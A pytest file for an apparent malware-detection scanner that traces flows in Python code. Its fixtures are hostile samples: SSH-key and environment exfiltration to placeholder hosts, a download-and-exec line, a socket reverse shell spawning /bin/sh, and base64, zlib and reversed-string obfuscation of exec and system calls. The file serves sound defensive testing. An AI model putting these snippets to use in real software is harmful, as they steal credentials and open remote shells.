"""The flow analysis on small modules: what reaches which sink."""

from __future__ import annotations

import ast
import textwrap

import pytest

from stilton.scanning.facts import MAIN_SCOPE, MODULE_SCOPE
from stilton.scanning.flow import analyze_module
from stilton.scanning.resolver import NameResolver


def analyse(source: str):
    source = textwrap.dedent(source)
    return analyze_module(ast.parse(source), source, "m.py")


def kinds(source: str) -> set[str]:
    return {event.kind for event in analyse(source).events}


@pytest.mark.parametrize(
    ("expression", "resolved"),
    [
        ("sp.Popen", "subprocess.Popen"),
        ("__import__('os').system", "os.system"),
        ("getattr(os, 'system')", "os.system"),
        ("__builtins__.__dict__['exec']", "exec"),
        ("builtins.exec", "exec"),
        ("system", "os.system"),
        ("ur.urlopen", "urllib.request.urlopen"),
    ],
)
def test_names_resolve_through_aliases_and_detours(expression, resolved):
    tree = ast.parse(
        "import subprocess as sp\nimport os\nimport builtins\nfrom os import system\n"
        "import urllib.request as ur\n"
    )
    resolver = NameResolver(tree)
    assert resolver.resolve(ast.parse(expression, mode="eval").body) == resolved


def test_decoded_blob_reaching_exec_through_variables():
    assert "exec-decoded" in kinds(
        """
        import base64
        data = 'cHJpbnQoImluZXJ0IGZpeHR1cmUiKQ=='
        code = base64.b64decode(data)
        exec(code)
        """
    )


def test_decoding_a_parameter_is_not_a_payload():
    assert (
        kinds(
            """
        import base64
        def run(encoded):
            return eval(base64.b64decode(encoded).decode("utf-8"))
        """
        )
        == set()
    )


def test_secrets_flow_through_helper_functions():
    found = analyse(
        """
        import os, requests
        def collect():
            return open(os.path.expanduser('~/.ssh/id_rsa')).read()
        def send(data):
            requests.post('https://collect.invalid', data=data)
        send(collect())
        """
    )
    exfil = [event for event in found.events if event.kind == "exfil"]
    assert exfil
    assert "secret:ssh" in exfil[0].labels


def test_secrets_flow_through_instance_attributes():
    assert "exfil" in kinds(
        """
        import os, requests
        class Stealer:
            def __init__(self):
                self.data = dict(os.environ)
            def run(self):
                requests.post('https://collect.invalid', json=self.data)
        """
    )


def test_tokens_in_headers_are_not_exfiltration():
    assert (
        kinds(
            """
        import os, requests
        def call():
            token = os.environ['GITHUB_TOKEN']
            return requests.get('https://api.github.invalid', headers={'Authorization': token})
        """
        )
        == set()
    )


def test_lambda_wrappers_are_followed():
    assert "exec-decoded" in kinds(
        """
        _ = lambda __: __import__('zlib').decompress(__[::-1])
        exec((_)(b'eJwrKMrMK1FIzsgvUcgsyM8rUUjLzCkpSgUAclEIqQ=='))
        """
    )


def test_exec_of_a_literal_is_analysed_inline():
    assert "download-exec" in kinds(
        "exec(\"import urllib.request;exec(urllib.request.urlopen('https://x.invalid').read())\")"
    )


def test_main_guard_is_its_own_scope():
    found = analyse(
        """
        import requests
        if __name__ == '__main__':
            requests.get('https://example.invalid')
        """
    )
    assert "network" not in found.scopes[MODULE_SCOPE].uses
    assert "network" in found.scopes[MAIN_SCOPE].uses


def test_setup_command_classes_are_found():
    found = analyse(
        """
        from setuptools.command.install import install
        class Post(install):
            def run(self):
                pass
        """
    )
    assert found.commands == {"Post"}


def test_functions_that_mention_nothing_are_not_walked():
    found = analyse(
        """
        def add(a, b):
            total = a + b
            return total
        x = add(1, 2)
        """
    )
    assert found.scopes["add"].returns == frozenset({"param:a", "param:b"})


def test_reverse_shell_from_socket_dup():
    assert "reverse-shell" in kinds(
        """
        import os, pty, socket
        s = socket.socket()
        s.connect(('203.0.113.9', 4444))
        os.dup2(s.fileno(), 0)
        pty.spawn('/bin/sh')
        """
    )


def test_a_reused_with_name_forgets_the_previous_file():
    assert (
        kinds(
            """
        with open("pkg/__init__.py") as f:
            ns = {}
            exec(f.read(), ns)
        with open("README.rst") as f:
            long_description = f.read()
        """
        )
        == set()
    )


def test_short_reversed_literals_disguise_names():
    assert "dynamic-name" in kinds("import os\ngetattr(os, 'metsys'[::-1])('id')\n")
